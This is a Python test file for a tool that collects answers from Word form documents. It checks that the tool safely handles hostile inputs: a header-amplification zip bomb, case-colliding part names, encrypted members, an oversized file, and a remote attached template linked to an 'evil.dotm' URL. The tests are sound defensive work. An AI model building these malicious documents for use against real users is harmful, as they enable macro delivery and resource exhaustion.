"""One bad file never stops the run, and no file can exhaust the machine."""

from __future__ import annotations

import io
import zipfile

import pytest
from test_collect import make_docx, make_roster, members_of, sheet_rows, write, zip_of

from mentordocs.collect import FormReadError, collect_forms, read_form
from mentordocs.ooxml.package import WordPackage

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def with_relationships_to_one_header(count: int) -> bytes:
    """A form whose main part refers to the same header ``count`` times."""
    members = members_of(make_docx("goal-sheet", "P01", {"goal_1_goal": "kept"}))
    rels = members.get("word/_rels/document.xml.rels", b"")
    extra = "".join(
        f'<Relationship Id="rIdH{n}" Type="{REL}" Target="header1.xml"/>' for n in range(count)
    ).encode()
    if rels:
        rels = rels.replace(b"</Relationships>", extra + b"</Relationships>")
    else:
        rels = (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships">' + extra + b"</Relationships>"
        )
    members["word/_rels/document.xml.rels"] = rels
    members["word/header1.xml"] = (
        b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + b"<w:p><w:r><w:t>"
        + b"x" * 20_000
        + b"</w:t></w:r></w:p></w:hdr>"
    )
    types = members["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/word/header1.xml" ContentType="{HEADER_TYPE}"/></Types>'.encode(),
    )
    members["[Content_Types].xml"] = types
    return zip_of(members)


def test_a_header_referred_to_thousands_of_times_is_read_once():
    data = with_relationships_to_one_header(7000)
    assert len(data) < 200_000
    with WordPackage(data) as package:
        assert package.layout().stories == ("word/header1.xml",)
    assert read_form(data).fields  # read in well under a second, the header once


def test_repeated_reads_count_towards_the_limit():
    from mentordocs.ooxml.package import ReadLimits

    data = with_relationships_to_one_header(3)
    with WordPackage(data, ReadLimits(max_total_bytes=30_000)) as package:
        package.read("word/header1.xml")
        with pytest.raises(Exception, match="zip bomb"):
            package.read("word/header1.xml")


def test_duplicate_and_case_colliding_part_names_are_refused():
    good = make_docx("goal-sheet", "P01", {"goal_1_goal": "first"})
    members = members_of(good)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.writestr("WORD/document.xml", members["word/document.xml"])  # case collision
    with pytest.raises(FormReadError, match="two parts named"):
        read_form(buffer.getvalue())


def test_a_docx_encrypted_in_the_zip_is_a_problem_not_a_crash(tmp_path):
    data = make_docx("goal-sheet", "P01", {"goal_1_goal": "secret"})
    # Flag every member as encrypted (traditional zip encryption), as a zip tool would.
    locked = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
    locked = locked.replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )
    folder = tmp_path / "in"
    write(folder / "P01_goal-sheet.docx", locked)
    write(folder / "P02_goal-sheet.docx", make_docx("goal-sheet", "P02", {"goal_1_goal": "fine"}))
    result = collect_forms([folder], tmp_path / "t.xlsx", make_roster(tmp_path))
    [problem] = result.problems
    assert "password" in problem.message and problem.fix
    assert [row["Goal 1"] for row in sheet_rows(tmp_path / "t.xlsx", "Goal sheet")] == ["fine"]


def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    huge = tmp_path / "P01_goal-sheet.docx"
    with huge.open("wb") as fh:  # sparse: 300 MB on paper, nothing on the disk
        fh.truncate(300 * 1024 * 1024)
    with pytest.raises(FormReadError, match="larger than any form"):
        read_form(huge)


def with_remote_template(where: str) -> bytes:
    """A form attached to a template on a web server, linked the way Word links it (from the
    settings part: ``where="settings"``) or straight from the main part (``"main"``)."""
    members = members_of(make_docx("goal-sheet", "P01", {"goal_1_goal": "kept"}))
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    template = (
        f'<Relationship Id="rIdT" Type="{office}/attachedTemplate" '
        'Target="https://templates.example.net/evil.dotm" TargetMode="External"/>'
    )
    settings = (
        f'<Relationship Id="rIdS" Type="{office}/settings" Target="settings.xml"/>'
        if where == "settings"
        else template
    )
    members["word/_rels/document.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rels_ns}">'
        f"{settings}</Relationships>"
    ).encode()
    if where == "settings":
        members["word/settings.xml"] = (
            b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            b'main" xmlns:r="' + office.encode() + b'"><w:attachedTemplate r:id="rIdT"/>'
            b"</w:settings>"
        )
        members["word/_rels/settings.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rels_ns}">'
            f"{template}</Relationships>"
        ).encode()
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/word/settings.xml" ContentType="application/vnd.'
            b'openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>',
        )
    return zip_of(members)


@pytest.mark.parametrize("where", ["settings", "main"])
def test_a_remote_attached_template_is_flagged_like_a_macro(tmp_path, where):
    folder = tmp_path / "in"
    write(folder / "P01_goal-sheet.docx", with_remote_template(where))
    result = collect_forms([folder], tmp_path / "t.xlsx", make_roster(tmp_path))
    [warning] = [p for p in result.problems if "template elsewhere" in p.message]
    assert "https://templates.example.net/evil.dotm" in warning.message
    assert warning.severity == "warning" and "trust the sender" in warning.fix
    # the answers are still read
    assert [row["Goal 1"] for row in sheet_rows(tmp_path / "t.xlsx", "Goal sheet")] == ["kept"]
